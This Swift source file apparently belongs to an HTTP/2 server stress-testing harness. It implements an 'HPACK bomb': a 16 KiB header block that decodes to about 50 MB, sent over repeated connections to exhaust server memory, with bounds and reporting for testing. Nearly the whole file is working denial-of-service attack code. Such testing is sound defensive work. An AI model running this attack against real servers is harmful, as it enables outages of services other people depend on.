import Foundation
import Glibc
import PalisadeEcho

/// `hpack-bomb`: a 16 KiB header block that decodes to ~50 MB.
///
/// The block holds the request's pseudo-headers, then one ~4,000-byte field `x-bomb` inserted
/// into the HPACK dynamic table (literal with incremental indexing; it becomes index 62), then
/// fills the rest of the 16,384-byte frame with 0xbe, the one-byte reference to index 62: about
/// 12,000 references, each decoding to the 4,000-byte field. Later requests on the same
/// connection are only references (the entry stays in the table). A server that limits the
/// decoded header list should stop the connection after the first such block (GOAWAY
/// ENHANCE_YOUR_CALM); the attacker then reconnects and repeats until the deadline.
struct HPACKBombAttack: BlockingAttacker {
    /// The inserted value: with the name and HPACK's 32-byte overhead it just fits the default
    /// 4,096-byte dynamic table.
    static let valueSize = 4_000
    /// Requests tried per connection before reconnecting anyway.
    static let blocksPerConnection = 20

    /// Bombs connection after connection until the deadline (at most 3,000 in short mode).
    func attack(_ context: AttackContext) -> AttackReport {
        var report = AttackReport()
        let path = "/\(EchoService.service)/Unary"
        var first = HPACKBlock.request(path: path, tls: context.usesTLS)
        first.literalWithIndexing(name: "x-bomb", value: repeatElement(UInt8(ascii: "b"), count: Self.valueSize))
        let references = H2Frames.maxPayload - first.bytes.count
        first.repeatByte(0xbe, count: references)
        var later = HPACKBlock.request(path: path, tls: context.usesTLS)
        later.repeatByte(0xbe, count: H2Frames.maxPayload - later.bytes.count)
        let maxConnections = context.bound(full: 100_000, short: 3_000)
        while !context.isOver, report.connections.count < maxConnections {
            guard let connection = context.openConnection(recordingFailureIn: &report) else { continue }
            var stream: UInt32 = 1
            for i in 0..<Self.blocksPerConnection {
                guard connection.isOpen, !context.isOver, connection.reader.goAway == nil else { break }
                var frame: [UInt8] = []
                H2Frames.appendHeaders(
                    stream: stream, fragment: i == 0 ? first.bytes : later.bytes,
                    endStream: true, endHeaders: true, to: &frame)
                connection.send(frame)
                report.streamsSent += 1
                let id = stream
                connection.wait(seconds: 0.5) { $0.reader.isAnswered(id) || $0.reader.goAway != nil }
                stream += 2
            }
            connection.drain()
            report.record(connection, cut: context.isOver)
            connection.close()
        }
        let decodedMB = Double(references * (Self.valueSize + 6)) / 1e6
        report.notes.append(
            String(format: "first block: %d refs to a %d-byte field (%.0f MB decoded)", references, Self.valueSize, decodedMB))
        return report
    }
}
